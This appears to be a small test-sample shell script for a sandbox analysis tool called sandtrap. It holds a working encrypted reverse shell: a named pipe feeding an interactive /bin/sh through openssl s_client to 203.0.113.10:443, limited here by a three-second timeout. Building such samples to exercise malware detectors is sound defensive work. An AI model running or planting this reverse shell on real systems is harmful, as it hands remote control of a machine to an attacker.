#!/bin/sh
# Encrypted reverse shell: a named pipe feeding /bin/sh -i whose output goes through openssl s_client to 203.0.113.10:443.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
rm -f /tmp/.s; mkfifo /tmp/.s
timeout 3 sh -c '/bin/sh -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect 203.0.113.10:443 > /tmp/.s 2>/dev/null'
rm -f /tmp/.s
echo ended
